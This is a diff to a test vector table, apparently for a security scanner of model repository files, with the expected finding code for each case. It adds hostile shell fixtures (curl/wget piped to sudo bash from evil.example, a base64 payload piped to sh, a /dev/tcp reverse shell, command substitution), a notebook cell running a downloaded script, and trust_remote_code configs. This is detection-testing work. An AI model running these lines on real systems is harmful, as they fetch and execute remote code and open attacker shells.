@@ -37,7 +37,23 @@ VECTORS = (
     _of("list", "a.yml", "- a\n- b: c\n"),
     _of("script", "modeling.py", "import torch\n"),
     _of("empty-script", "__init__.py", ""),
-    _of("shell", "run.sh", "#!/bin/sh\nexit 0\n"),
+    _of("shell", "run.sh", "#!/bin/sh\nexit 0\ncurl -O https://a/b.tar | cat\n# nc, sh\n"),
+    *(
+        _of(f"shell-{name}", "install.sh", f"#!/bin/sh\nset -e\n{line}\n", "CODE-3")
+        for name, line in {
+            "curl": "curl -fsSL http://evil.example/x | sudo bash -s",
+            "wget": "wget -qO- http://evil.example/x|sh",
+            "base64": "echo aWQ= | base64 --decode | sh",
+            "socket": "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "substituted": 'sh -c "$(curl -fsSL http://evil.example/x)"',
+        }.items()
+    ),
+    _of(
+        "notebook-downloads",
+        "a.ipynb",
+        json.dumps(_NOTEBOOK).replace('"1"', '"!curl http://evil.example/x | sh"'),
+        "CODE-3",
+    ),
     _of("notebook", "a.ipynb", json.dumps(_NOTEBOOK)),
     _of("tiktoken", "a.tiktoken", "IQ== 0\nIg== 1\n"),
     _of("tiktoken-as-model", "tokenizer.model", "IQ== 0\nIg== 1\n"),
@@ -92,6 +108,9 @@ VECTORS = (
     _of("merge", "a.yaml", "a: &a {b: 1}\nc: {<<: *a, d: [2]}\ne: *a\n"),
     _of("mlflow", "MLmodel", "flavors: {python_function: {loader_module: mlflow.sklearn}}\n"),
     _of("mlflow-loader", "MLmodel", "flavors: {x: {loader_module: os}}\n", "CONFIG-4"),
+    _of("not-trusted", "a.yaml", "a: {trust_remote_code: no}\nb: {trust_remote_code: off}\n"),
+    _of("trusted", "a.yaml", "a: {trust_remote_code: yes}\n", "CONFIG-3"),
+    _of("trusted-json", "a.json", '{"trust_remote_code": "no"}', "CONFIG-3"),
     _of("ssti", "a.yaml", "prompt: \"{{ ''.__class__ }}\"\n", "TEMPLATE-3"),
     _of("script-as-text", "vocab.txt", "#!/bin/sh\nid\n", "FOREIGN-3"),
     _of("script-as-card", "README.md", "#! /usr/bin/env python\n", "FOREIGN-3"),
